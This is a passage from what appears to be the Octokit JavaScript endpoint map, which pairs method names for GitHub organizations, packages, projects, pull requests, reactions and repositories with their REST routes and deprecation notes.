      "GET /orgs/{org}/organization-fine-grained-permissions"
    ],
    listOutsideCollaborators: ["GET /orgs/{org}/outside_collaborators"],
    listPatGrantRepositories: [
      "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories"
    ],
    listPatGrantRequestRepositories: [
      "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories"
    ],
    listPatGrantRequests: ["GET /orgs/{org}/personal-access-token-requests"],
    listPatGrants: ["GET /orgs/{org}/personal-access-tokens"],
    listPendingInvitations: ["GET /orgs/{org}/invitations"],
    listPublicMembers: ["GET /orgs/{org}/public_members"],
    listSecurityManagerTeams: [
      "GET /orgs/{org}/security-managers",
      {},
      {
        deprecated: "octokit.rest.orgs.listSecurityManagerTeams() is deprecated, see https://docs.github.com/rest/orgs/security-managers#list-security-manager-teams"
      }
    ],
    listWebhookDeliveries: ["GET /orgs/{org}/hooks/{hook_id}/deliveries"],
    listWebhooks: ["GET /orgs/{org}/hooks"],
    pingWebhook: ["POST /orgs/{org}/hooks/{hook_id}/pings"],
    redeliverWebhookDelivery: [
      "POST /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
    ],
    removeMember: ["DELETE /orgs/{org}/members/{username}"],
    removeMembershipForUser: ["DELETE /orgs/{org}/memberships/{username}"],
    removeOutsideCollaborator: [
      "DELETE /orgs/{org}/outside_collaborators/{username}"
    ],
    removePublicMembershipForAuthenticatedUser: [
      "DELETE /orgs/{org}/public_members/{username}"
    ],
    removeSecurityManagerTeam: [
      "DELETE /orgs/{org}/security-managers/teams/{team_slug}",
      {},
      {
        deprecated: "octokit.rest.orgs.removeSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#remove-a-security-manager-team"
      }
    ],
    reviewPatGrantRequest: [
      "POST /orgs/{org}/personal-access-token-requests/{pat_request_id}"
    ],
    reviewPatGrantRequestsInBulk: [
      "POST /orgs/{org}/personal-access-token-requests"
    ],
    revokeAllOrgRolesTeam: [
      "DELETE /orgs/{org}/organization-roles/teams/{team_slug}"
    ],
    revokeAllOrgRolesUser: [
      "DELETE /orgs/{org}/organization-roles/users/{username}"
    ],
    revokeOrgRoleTeam: [
      "DELETE /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
    ],
    revokeOrgRoleUser: [
      "DELETE /orgs/{org}/organization-roles/users/{username}/{role_id}"
    ],
    setImmutableReleasesSettings: [
      "PUT /orgs/{org}/settings/immutable-releases"
    ],
    setImmutableReleasesSettingsRepositories: [
      "PUT /orgs/{org}/settings/immutable-releases/repositories"
    ],
    setMembershipForUser: ["PUT /orgs/{org}/memberships/{username}"],
    setPublicMembershipForAuthenticatedUser: [
      "PUT /orgs/{org}/public_members/{username}"
    ],
    unblockUser: ["DELETE /orgs/{org}/blocks/{username}"],
    update: ["PATCH /orgs/{org}"],
    updateIssueType: ["PUT /orgs/{org}/issue-types/{issue_type_id}"],
    updateMembershipForAuthenticatedUser: [
      "PATCH /user/memberships/orgs/{org}"
    ],
    updatePatAccess: ["POST /orgs/{org}/personal-access-tokens/{pat_id}"],
    updatePatAccesses: ["POST /orgs/{org}/personal-access-tokens"],
    updateWebhook: ["PATCH /orgs/{org}/hooks/{hook_id}"],
    updateWebhookConfigForOrg: ["PATCH /orgs/{org}/hooks/{hook_id}/config"]
  },
  packages: {
    deletePackageForAuthenticatedUser: [
      "DELETE /user/packages/{package_type}/{package_name}"
    ],
    deletePackageForOrg: [
      "DELETE /orgs/{org}/packages/{package_type}/{package_name}"
    ],
    deletePackageForUser: [
      "DELETE /users/{username}/packages/{package_type}/{package_name}"
    ],
    deletePackageVersionForAuthenticatedUser: [
      "DELETE /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    deletePackageVersionForOrg: [
      "DELETE /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    deletePackageVersionForUser: [
      "DELETE /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    getAllPackageVersionsForAPackageOwnedByAnOrg: [
      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
      {},
      { renamed: ["packages", "getAllPackageVersionsForPackageOwnedByOrg"] }
    ],
    getAllPackageVersionsForAPackageOwnedByTheAuthenticatedUser: [
      "GET /user/packages/{package_type}/{package_name}/versions",
      {},
      {
        renamed: [
          "packages",
          "getAllPackageVersionsForPackageOwnedByAuthenticatedUser"
        ]
      }
    ],
    getAllPackageVersionsForPackageOwnedByAuthenticatedUser: [
      "GET /user/packages/{package_type}/{package_name}/versions"
    ],
    getAllPackageVersionsForPackageOwnedByOrg: [
      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions"
    ],
    getAllPackageVersionsForPackageOwnedByUser: [
      "GET /users/{username}/packages/{package_type}/{package_name}/versions"
    ],
    getPackageForAuthenticatedUser: [
      "GET /user/packages/{package_type}/{package_name}"
    ],
    getPackageForOrganization: [
      "GET /orgs/{org}/packages/{package_type}/{package_name}"
    ],
    getPackageForUser: [
      "GET /users/{username}/packages/{package_type}/{package_name}"
    ],
    getPackageVersionForAuthenticatedUser: [
      "GET /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    getPackageVersionForOrganization: [
      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    getPackageVersionForUser: [
      "GET /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
    ],
    listDockerMigrationConflictingPackagesForAuthenticatedUser: [
      "GET /user/docker/conflicts"
    ],
    listDockerMigrationConflictingPackagesForOrganization: [
      "GET /orgs/{org}/docker/conflicts"
    ],
    listDockerMigrationConflictingPackagesForUser: [
      "GET /users/{username}/docker/conflicts"
    ],
    listPackagesForAuthenticatedUser: ["GET /user/packages"],
    listPackagesForOrganization: ["GET /orgs/{org}/packages"],
    listPackagesForUser: ["GET /users/{username}/packages"],
    restorePackageForAuthenticatedUser: [
      "POST /user/packages/{package_type}/{package_name}/restore{?token}"
    ],
    restorePackageForOrg: [
      "POST /orgs/{org}/packages/{package_type}/{package_name}/restore{?token}"
    ],
    restorePackageForUser: [
      "POST /users/{username}/packages/{package_type}/{package_name}/restore{?token}"
    ],
    restorePackageVersionForAuthenticatedUser: [
      "POST /user/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
    ],
    restorePackageVersionForOrg: [
      "POST /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
    ],
    restorePackageVersionForUser: [
      "POST /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
    ]
  },
  privateRegistries: {
    createOrgPrivateRegistry: ["POST /orgs/{org}/private-registries"],
    deleteOrgPrivateRegistry: [
      "DELETE /orgs/{org}/private-registries/{secret_name}"
    ],
    getOrgPrivateRegistry: ["GET /orgs/{org}/private-registries/{secret_name}"],
    getOrgPublicKey: ["GET /orgs/{org}/private-registries/public-key"],
    listOrgPrivateRegistries: ["GET /orgs/{org}/private-registries"],
    updateOrgPrivateRegistry: [
      "PATCH /orgs/{org}/private-registries/{secret_name}"
    ]
  },
  projects: {
    addItemForOrg: ["POST /orgs/{org}/projectsV2/{project_number}/items"],
    addItemForUser: [
      "POST /users/{username}/projectsV2/{project_number}/items"
    ],
    deleteItemForOrg: [
      "DELETE /orgs/{org}/projectsV2/{project_number}/items/{item_id}"
    ],
    deleteItemForUser: [
      "DELETE /users/{username}/projectsV2/{project_number}/items/{item_id}"
    ],
    getFieldForOrg: [
      "GET /orgs/{org}/projectsV2/{project_number}/fields/{field_id}"
    ],
    getFieldForUser: [
      "GET /users/{username}/projectsV2/{project_number}/fields/{field_id}"
    ],
    getForOrg: ["GET /orgs/{org}/projectsV2/{project_number}"],
    getForUser: ["GET /users/{username}/projectsV2/{project_number}"],
    getOrgItem: ["GET /orgs/{org}/projectsV2/{project_number}/items/{item_id}"],
    getUserItem: [
      "GET /users/{username}/projectsV2/{project_number}/items/{item_id}"
    ],
    listFieldsForOrg: ["GET /orgs/{org}/projectsV2/{project_number}/fields"],
    listFieldsForUser: [
      "GET /users/{username}/projectsV2/{project_number}/fields"
    ],
    listForOrg: ["GET /orgs/{org}/projectsV2"],
    listForUser: ["GET /users/{username}/projectsV2"],
    listItemsForOrg: ["GET /orgs/{org}/projectsV2/{project_number}/items"],
    listItemsForUser: [
      "GET /users/{username}/projectsV2/{project_number}/items"
    ],
    updateItemForOrg: [
      "PATCH /orgs/{org}/projectsV2/{project_number}/items/{item_id}"
    ],
    updateItemForUser: [
      "PATCH /users/{username}/projectsV2/{project_number}/items/{item_id}"
    ]
  },
  pulls: {
    checkIfMerged: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
    create: ["POST /repos/{owner}/{repo}/pulls"],
    createReplyForReviewComment: [
      "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies"
    ],
    createReview: ["POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
    createReviewComment: [
      "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments"
    ],
    deletePendingReview: [
      "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
    ],
    deleteReviewComment: [
      "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}"
    ],
    dismissReview: [
      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/dismissals"
    ],
    get: ["GET /repos/{owner}/{repo}/pulls/{pull_number}"],
    getReview: [
      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
    ],
    getReviewComment: ["GET /repos/{owner}/{repo}/pulls/comments/{comment_id}"],
    list: ["GET /repos/{owner}/{repo}/pulls"],
    listCommentsForReview: [
      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments"
    ],
    listCommits: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/commits"],
    listFiles: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/files"],
    listRequestedReviewers: [
      "GET /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
    ],
    listReviewComments: [
      "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments"
    ],
    listReviewCommentsForRepo: ["GET /repos/{owner}/{repo}/pulls/comments"],
    listReviews: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
    merge: ["PUT /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
    removeRequestedReviewers: [
      "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
    ],
    requestReviewers: [
      "POST /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
    ],
    submitReview: [
      "POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/events"
    ],
    update: ["PATCH /repos/{owner}/{repo}/pulls/{pull_number}"],
    updateBranch: [
      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/update-branch"
    ],
    updateReview: [
      "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
    ],
    updateReviewComment: [
      "PATCH /repos/{owner}/{repo}/pulls/comments/{comment_id}"
    ]
  },
  rateLimit: { get: ["GET /rate_limit"] },
  reactions: {
    createForCommitComment: [
      "POST /repos/{owner}/{repo}/comments/{comment_id}/reactions"
    ],
    createForIssue: [
      "POST /repos/{owner}/{repo}/issues/{issue_number}/reactions"
    ],
    createForIssueComment: [
      "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
    ],
    createForPullRequestReviewComment: [
      "POST /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
    ],
    createForRelease: [
      "POST /repos/{owner}/{repo}/releases/{release_id}/reactions"
    ],
    createForTeamDiscussionCommentInOrg: [
      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
    ],
    createForTeamDiscussionInOrg: [
      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
    ],
    deleteForCommitComment: [
      "DELETE /repos/{owner}/{repo}/comments/{comment_id}/reactions/{reaction_id}"
    ],
    deleteForIssue: [
      "DELETE /repos/{owner}/{repo}/issues/{issue_number}/reactions/{reaction_id}"
    ],
    deleteForIssueComment: [
      "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions/{reaction_id}"
    ],
    deleteForPullRequestComment: [
      "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions/{reaction_id}"
    ],
    deleteForRelease: [
      "DELETE /repos/{owner}/{repo}/releases/{release_id}/reactions/{reaction_id}"
    ],
    deleteForTeamDiscussion: [
      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions/{reaction_id}"
    ],
    deleteForTeamDiscussionComment: [
      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions/{reaction_id}"
    ],
    listForCommitComment: [
      "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions"
    ],
    listForIssue: ["GET /repos/{owner}/{repo}/issues/{issue_number}/reactions"],
    listForIssueComment: [
      "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
    ],
    listForPullRequestReviewComment: [
      "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
    ],
    listForRelease: [
      "GET /repos/{owner}/{repo}/releases/{release_id}/reactions"
    ],
    listForTeamDiscussionCommentInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
    ],
    listForTeamDiscussionInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
    ]
  },
  repos: {
    acceptInvitation: [
      "PATCH /user/repository_invitations/{invitation_id}",
      {},
      { renamed: ["repos", "acceptInvitationForAuthenticatedUser"] }
    ],
    acceptInvitationForAuthenticatedUser: [
      "PATCH /user/repository_invitations/{invitation_id}"
    ],
    addAppAccessRestrictions: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
      {},
      { mapToData: "apps" }
    ],
    addCollaborator: ["PUT /repos/{owner}/{repo}/collaborators/{username}"],
    addStatusCheckContexts: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
      {},
      { mapToData: "contexts" }
    ],
    addTeamAccessRestrictions: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
      {},
      { mapToData: "teams" }
    ],
    addUserAccessRestrictions: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
      {},
      { mapToData: "users" }
    ],
    cancelPagesDeployment: [
      "POST /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}/cancel"
    ],
    checkAutomatedSecurityFixes: [
      "GET /repos/{owner}/{repo}/automated-security-fixes"
    ],
    checkCollaborator: ["GET /repos/{owner}/{repo}/collaborators/{username}"],
    checkImmutableReleases: ["GET /repos/{owner}/{repo}/immutable-releases"],
    checkPrivateVulnerabilityReporting: [
      "GET /repos/{owner}/{repo}/private-vulnerability-reporting"
    ],
    checkVulnerabilityAlerts: [
      "GET /repos/{owner}/{repo}/vulnerability-alerts"
    ],
    codeownersErrors: ["GET /repos/{owner}/{repo}/codeowners/errors"],
    compareCommits: ["GET /repos/{owner}/{repo}/compare/{base}...{head}"],
    compareCommitsWithBasehead: [
      "GET /repos/{owner}/{repo}/compare/{basehead}"
    ],
    createAttestation: ["POST /repos/{owner}/{repo}/attestations"],
    createAutolink: ["POST /repos/{owner}/{repo}/autolinks"],
    createCommitComment: [
      "POST /repos/{owner}/{repo}/commits/{commit_sha}/comments"
    ],
    createCommitSignatureProtection: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
    ],
    createCommitStatus: ["POST /repos/{owner}/{repo}/statuses/{sha}"],
    createDeployKey: ["POST /repos/{owner}/{repo}/keys"],
    createDeployment: ["POST /repos/{owner}/{repo}/deployments"],
    createDeploymentBranchPolicy: [
      "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
    ],
    createDeploymentProtectionRule: [
      "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
    ],
    createDeploymentStatus: [
      "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
    ],
    createDispatchEvent: ["POST /repos/{owner}/{repo}/dispatches"],
    createForAuthenticatedUser: ["POST /user/repos"],
    createFork: ["POST /repos/{owner}/{repo}/forks"],
    createInOrg: ["POST /orgs/{org}/repos"],
    createOrUpdateEnvironment: [
      "PUT /repos/{owner}/{repo}/environments/{environment_name}"
    ],
    createOrUpdateFileContents: ["PUT /repos/{owner}/{repo}/contents/{path}"],
    createOrgRuleset: ["POST /orgs/{org}/rulesets"],
    createPagesDeployment: ["POST /repos/{owner}/{repo}/pages/deployments"],
    createPagesSite: ["POST /repos/{owner}/{repo}/pages"],
    createRelease: ["POST /repos/{owner}/{repo}/releases"],
    createRepoRuleset: ["POST /repos/{owner}/{repo}/rulesets"],
    createUsingTemplate: [
      "POST /repos/{template_owner}/{template_repo}/generate"
    ],
    createWebhook: ["POST /repos/{owner}/{repo}/hooks"],
    customPropertiesForReposCreateOrUpdateRepositoryValues: [
      "PATCH /repos/{owner}/{repo}/properties/values"
    ],
    customPropertiesForReposGetRepositoryValues: [
      "GET /repos/{owner}/{repo}/properties/values"
    ],
    declineInvitation: [
      "DELETE /user/repository_invitations/{invitation_id}",
      {},
      { renamed: ["repos", "declineInvitationForAuthenticatedUser"] }
    ],
    declineInvitationForAuthenticatedUser: [
      "DELETE /user/repository_invitations/{invitation_id}"
    ],
    delete: ["DELETE /repos/{owner}/{repo}"],
    deleteAccessRestrictions: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
    ],
    deleteAdminBranchProtection: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
    ],
    deleteAnEnvironment: [
      "DELETE /repos/{owner}/{repo}/environments/{environment_name}"
    ],
    deleteAutolink: ["DELETE /repos/{owner}/{repo}/autolinks/{autolink_id}"],
    deleteBranchProtection: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection"
    ],
    deleteCommitComment: ["DELETE /repos/{owner}/{repo}/comments/{comment_id}"],
    deleteCommitSignatureProtection: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
    ],
    deleteDeployKey: ["DELETE /repos/{owner}/{repo}/keys/{key_id}"],
    deleteDeployment: [
      "DELETE /repos/{owner}/{repo}/deployments/{deployment_id}"
    ],
    deleteDeploymentBranchPolicy: [
      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
    ],
    deleteFile: ["DELETE /repos/{owner}/{repo}/contents/{path}"],
    deleteInvitation: [
      "DELETE /repos/{owner}/{repo}/invitations/{invitation_id}"
    ],
    deleteOrgRuleset: ["DELETE /orgs/{org}/rulesets/{ruleset_id}"],
    deletePagesSite: ["DELETE /repos/{owner}/{repo}/pages"],
    deletePullRequestReviewProtection: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
    ],
    deleteRelease: ["DELETE /repos/{owner}/{repo}/releases/{release_id}"],
    deleteReleaseAsset: [
      "DELETE /repos/{owner}/{repo}/releases/assets/{asset_id}"
    ],
    deleteRepoRuleset: ["DELETE /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
    deleteWebhook: ["DELETE /repos/{owner}/{repo}/hooks/{hook_id}"],
    disableAutomatedSecurityFixes: [
      "DELETE /repos/{owner}/{repo}/automated-security-fixes"
    ],
    disableDeploymentProtectionRule: [
      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
    ],
    disableImmutableReleases: [
      "DELETE /repos/{owner}/{repo}/immutable-releases"
    ],
    disablePrivateVulnerabilityReporting: [
      "DELETE /repos/{owner}/{repo}/private-vulnerability-reporting"
    ],
    disableVulnerabilityAlerts: [
      "DELETE /repos/{owner}/{repo}/vulnerability-alerts"
    ],
    downloadArchive: [
      "GET /repos/{owner}/{repo}/zipball/{ref}",
      {},
      { renamed: ["repos", "downloadZipballArchive"] }
    ],
    downloadTarballArchive: ["GET /repos/{owner}/{repo}/tarball/{ref}"],
    downloadZipballArchive: ["GET /repos/{owner}/{repo}/zipball/{ref}"],
    enableAutomatedSecurityFixes: [
      "PUT /repos/{owner}/{repo}/automated-security-fixes"
    ],
    enableImmutableReleases: ["PUT /repos/{owner}/{repo}/immutable-releases"],
    enablePrivateVulnerabilityReporting: [
      "PUT /repos/{owner}/{repo}/private-vulnerability-reporting"
    ],
    enableVulnerabilityAlerts: [
      "PUT /repos/{owner}/{repo}/vulnerability-alerts"
    ],
    generateReleaseNotes: [
      "POST /repos/{owner}/{repo}/releases/generate-notes"
    ],
    get: ["GET /repos/{owner}/{repo}"],
    getAccessRestrictions: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
    ],
    getAdminBranchProtection: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
    ],
    getAllDeploymentProtectionRules: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
    ],
    getAllEnvironments: ["GET /repos/{owner}/{repo}/environments"],
    getAllStatusCheckContexts: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts"
    ],
    getAllTopics: ["GET /repos/{owner}/{repo}/topics"],
    getAppsWithAccessToProtectedBranch: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps"
    ],
    getAutolink: ["GET /repos/{owner}/{repo}/autolinks/{autolink_id}"],
    getBranch: ["GET /repos/{owner}/{repo}/branches/{branch}"],
    getBranchProtection: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection"
    ],
    getBranchRules: ["GET /repos/{owner}/{repo}/rules/branches/{branch}"],
    getClones: ["GET /repos/{owner}/{repo}/traffic/clones"],
    getCodeFrequencyStats: ["GET /repos/{owner}/{repo}/stats/code_frequency"],
    getCollaboratorPermissionLevel: [
      "GET /repos/{owner}/{repo}/collaborators/{username}/permission"
    ],
    getCombinedStatusForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/status"],
    getCommit: ["GET /repos/{owner}/{repo}/commits/{ref}"],
    getCommitActivityStats: ["GET /repos/{owner}/{repo}/stats/commit_activity"],
    getCommitComment: ["GET /repos/{owner}/{repo}/comments/{comment_id}"],
    getCommitSignatureProtection: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
    ],
    getCommunityProfileMetrics: ["GET /repos/{owner}/{repo}/community/profile"],
    getContent: ["GET /repos/{owner}/{repo}/contents/{path}"],
    getContributorsStats: ["GET /repos/{owner}/{repo}/stats/contributors"],
    getCustomDeploymentProtectionRule: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
    ],
    getDeployKey: ["GET /repos/{owner}/{repo}/keys/{key_id}"],
    getDeployment: ["GET /repos/{owner}/{repo}/deployments/{deployment_id}"],
    getDeploymentBranchPolicy: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
    ],
    getDeploymentStatus: [
      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses/{status_id}"
    ],
    getEnvironment: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}"
    ],
    getLatestPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/latest"],
    getLatestRelease: ["GET /repos/{owner}/{repo}/releases/latest"],
    getOrgRuleSuite: ["GET /orgs/{org}/rulesets/rule-suites/{rule_suite_id}"],
    getOrgRuleSuites: ["GET /orgs/{org}/rulesets/rule-suites"],
    getOrgRuleset: ["GET /orgs/{org}/rulesets/{ruleset_id}"],
    getOrgRulesets: ["GET /orgs/{org}/rulesets"],
    getPages: ["GET /repos/{owner}/{repo}/pages"],
    getPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/{build_id}"],
    getPagesDeployment: [
      "GET /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}"
    ],
    getPagesHealthCheck: ["GET /repos/{owner}/{repo}/pages/health"],
    getParticipationStats: ["GET /repos/{owner}/{repo}/stats/participation"],
    getPullRequestReviewProtection: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
    ],
    getPunchCardStats: ["GET /repos/{owner}/{repo}/stats/punch_card"],
    getReadme: ["GET /repos/{owner}/{repo}/readme"],
    getReadmeInDirectory: ["GET /repos/{owner}/{repo}/readme/{dir}"],
    getRelease: ["GET /repos/{owner}/{repo}/releases/{release_id}"],
    getReleaseAsset: ["GET /repos/{owner}/{repo}/releases/assets/{asset_id}"],
    getReleaseByTag: ["GET /repos/{owner}/{repo}/releases/tags/{tag}"],
    getRepoRuleSuite: [
      "GET /repos/{owner}/{repo}/rulesets/rule-suites/{rule_suite_id}"
    ],
    getRepoRuleSuites: ["GET /repos/{owner}/{repo}/rulesets/rule-suites"],
    getRepoRuleset: ["GET /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
    getRepoRulesetHistory: [
      "GET /repos/{owner}/{repo}/rulesets/{ruleset_id}/history"
    ],
    getRepoRulesetVersion: [
      "GET /repos/{owner}/{repo}/rulesets/{ruleset_id}/history/{version_id}"
    ],
    getRepoRulesets: ["GET /repos/{owner}/{repo}/rulesets"],
    getStatusChecksProtection: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
    ],
    getTeamsWithAccessToProtectedBranch: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams"
    ],
    getTopPaths: ["GET /repos/{owner}/{repo}/traffic/popular/paths"],
    getTopReferrers: ["GET /repos/{owner}/{repo}/traffic/popular/referrers"],
    getUsersWithAccessToProtectedBranch: [
      "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users"
    ],
    getViews: ["GET /repos/{owner}/{repo}/traffic/views"],
    getWebhook: ["GET /repos/{owner}/{repo}/hooks/{hook_id}"],
    getWebhookConfigForRepo: [
      "GET /repos/{owner}/{repo}/hooks/{hook_id}/config"
    ],
    getWebhookDelivery: [
      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}"
    ],
    listActivities: ["GET /repos/{owner}/{repo}/activity"],
    listAttestations: [
      "GET /repos/{owner}/{repo}/attestations/{subject_digest}"
    ],
    listAutolinks: ["GET /repos/{owner}/{repo}/autolinks"],
    listBranches: ["GET /repos/{owner}/{repo}/branches"],
    listBranchesForHeadCommit: [
      "GET /repos/{owner}/{repo}/commits/{commit_sha}/branches-where-head"
    ],
    listCollaborators: ["GET /repos/{owner}/{repo}/collaborators"],
    listCommentsForCommit: [
      "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments"
    ],
    listCommitCommentsForRepo: ["GET /repos/{owner}/{repo}/comments"],
    listCommitStatusesForRef: [
      "GET /repos/{owner}/{repo}/commits/{ref}/statuses"
    ],
    listCommits: ["GET /repos/{owner}/{repo}/commits"],
    listContributors: ["GET /repos/{owner}/{repo}/contributors"],
    listCustomDeploymentRuleIntegrations: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps"
    ],
    listDeployKeys: ["GET /repos/{owner}/{repo}/keys"],
    listDeploymentBranchPolicies: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
    ],
    listDeploymentStatuses: [
      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
    ],
    listDeployments: ["GET /repos/{owner}/{repo}/deployments"],
    listForAuthenticatedUser: ["GET /user/repos"],
    listForOrg: ["GET /orgs/{org}/repos"],
    listForUser: ["GET /users/{username}/repos"],
    listForks: ["GET /repos/{owner}/{repo}/forks"],
    listInvitations: ["GET /repos/{owner}/{repo}/invitations"],
    listInvitationsForAuthenticatedUser: ["GET /user/repository_invitations"],
    listLanguages: ["GET /repos/{owner}/{repo}/languages"],
    listPagesBuilds: ["GET /repos/{owner}/{repo}/pages/builds"],
    listPublic: ["GET /repositories"],
    listPullRequestsAssociatedWithCommit: [
      "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls"
    ],
    listReleaseAssets: [
      "GET /repos/{owner}/{repo}/releases/{release_id}/assets"
    ],
    listReleases: ["GET /repos/{owner}/{repo}/releases"],
    listTags: ["GET /repos/{owner}/{repo}/tags"],
    listTeams: ["GET /repos/{owner}/{repo}/teams"],
    listWebhookDeliveries: [
      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries"
    ],
    listWebhooks: ["GET /repos/{owner}/{repo}/hooks"],
    merge: ["POST /repos/{owner}/{repo}/merges"],
    mergeUpstream: ["POST /repos/{owner}/{repo}/merge-upstream"],
    pingWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/pings"],
    redeliverWebhookDelivery: [
      "POST /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
    ],
    removeAppAccessRestrictions: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
      {},
      { mapToData: "apps" }
    ],
    removeCollaborator: [
      "DELETE /repos/{owner}/{repo}/collaborators/{username}"
    ],
    removeStatusCheckContexts: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
      {},
      { mapToData: "contexts" }
    ],
    removeStatusCheckProtection: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
    ],
    removeTeamAccessRestrictions: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
      {},
      { mapToData: "teams" }
    ],
    removeUserAccessRestrictions: [
      "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
      {},
      { mapToData: "users" }
    ],
